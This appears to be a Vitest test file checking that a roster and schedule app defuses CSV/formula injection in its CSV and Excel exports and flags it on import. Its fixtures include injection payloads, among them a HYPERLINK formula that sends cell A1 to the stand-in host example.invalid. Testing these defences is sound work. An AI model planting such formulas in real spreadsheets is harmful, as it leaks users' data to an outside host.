import { readFileSync } from "node:fs";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import type { Plan, Schedule } from "../../solver/index.js";
import {
  exportRoster,
  exportRosterCsv,
  exportScheduleCsv,
  exportScheduleXlsx,
  importRoster,
} from "../../src/excel/index.js";

// CSV injection (OWASP): text that Excel would run as a formula is neutralised in CSV exports, stays a text
// cell in workbooks, and is flagged cell by cell when a roster brings it in.

const tiny: Plan = JSON.parse(
  readFileSync(new URL("../../fixtures/plans/tiny-d.json", import.meta.url), "utf8"),
);
const schedule: Schedule = JSON.parse(
  readFileSync(new URL("./golden/tiny-d.schedule.json", import.meta.url), "utf8"),
);

const HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"点击")';
const batch = schedule.batches[0];
if (batch === undefined) throw new Error("the golden schedule has a batch");
const [cadreId] = batch.cadreIds;
const [staffId] = batch.staffIds;

/** tiny-d with a planted scheduled cadre, staff member and institution. */
const planted: Plan = {
  ...tiny,
  cadres: tiny.cadres.map((c) =>
    c.id === cadreId ? { ...c, name: HYPERLINK, placement: { ...c.placement, institution: "+1+1" } } : c,
  ),
  staff: tiny.staff.map((s) => (s.id === staffId ? { ...s, name: "@SUM(1,2)", institution: "\t=1" } : s)),
};

describe("the schedule's CSV export", () => {
  it("puts a single quote before every cell Excel would read as a formula", () => {
    const rows: string[][] = parse(exportScheduleCsv(planted, schedule), { bom: true });
    const cadre = rows.find((row) => row[7] === cadreId);
    const member = rows.find((row) => row[7] === staffId);
    expect(cadre?.[8]).toBe(`'${HYPERLINK}`);
    expect(cadre?.[11]).toBe("'+1+1");
    expect(member?.[8]).toBe("'@SUM(1,2)");
    expect(member?.[11]).toBe("'\t=1");
    // Nothing else left starts like a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe("the schedule's workbook export", () => {
  it("writes such names as text cells, never as formulas", async () => {
    const body = await exportScheduleXlsx(planted, schedule);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(body as unknown as ExcelJS.Buffer);
    const cells: ExcelJS.Cell[] = [];
    for (const sheet of workbook.worksheets)
      sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell)));
    const named = cells.filter((cell) => cell.value === HYPERLINK || cell.value === "@SUM(1,2)");
    expect(named.length).toBeGreaterThanOrEqual(2);
    for (const cell of named) expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cells.some((cell) => cell.type === ExcelJS.ValueType.Formula)).toBe(false);
  });
});

describe("the roster import", () => {
  const expectedWarning = {
    sheet: "军休干部",
    row: 1 + 1 + tiny.cadres.findIndex((c) => c.id === cadreId),
    path: `/cadres/${tiny.cadres.findIndex((c) => c.id === cadreId)}/name`,
    code: "FORMULA_LIKE_TEXT",
    message: expect.stringMatching(/^「姓名」以「=」开头，Excel 可能把它当作公式执行/),
  };

  it("imports such text as it is from a workbook and warns about each cell", async () => {
    const result = await importRoster(await exportRoster(planted), "xlsx");
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.cadres.find((c) => c.id === cadreId)?.name).toBe(HYPERLINK);
    expect(result.warnings).toEqual(
      expect.arrayContaining([
        { ...expectedWarning, column: expect.stringMatching(/^[A-Z]+ 姓名$/) },
        expect.objectContaining({
          sheet: "军休干部",
          code: "FORMULA_LIKE_TEXT",
          path: expect.stringMatching(/institution$/),
        }),
        expect.objectContaining({ sheet: "服务保障人员", code: "FORMULA_LIKE_TEXT", path: "/staff/0/name" }),
      ]),
    );
    expect(result.warnings.find((w) => w.path === "/staff/0/institution")?.message).toMatch(
      /^「所属机构」以「=」开头/,
    );
    expect(result.warnings).toHaveLength(4);
  });

  it("reads back what the CSV export neutralised, and warns about it", async () => {
    const csv = exportRosterCsv(planted, "cadres");
    expect(csv).toContain(`'=HYPERLINK`);
    const result = await importRoster(Buffer.from(csv), "csv", "cadres");
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.cadres.find((c) => c.id === cadreId)?.name).toBe(HYPERLINK);
    expect(result.warnings).toContainEqual({ ...expectedWarning, column: expect.stringMatching(/ 姓名$/) });
  });

  it("has no warnings for an ordinary roster", async () => {
    const result = await importRoster(await exportRoster(tiny), "xlsx");
    expect(result.ok && result.warnings).toEqual([]);
  });
});
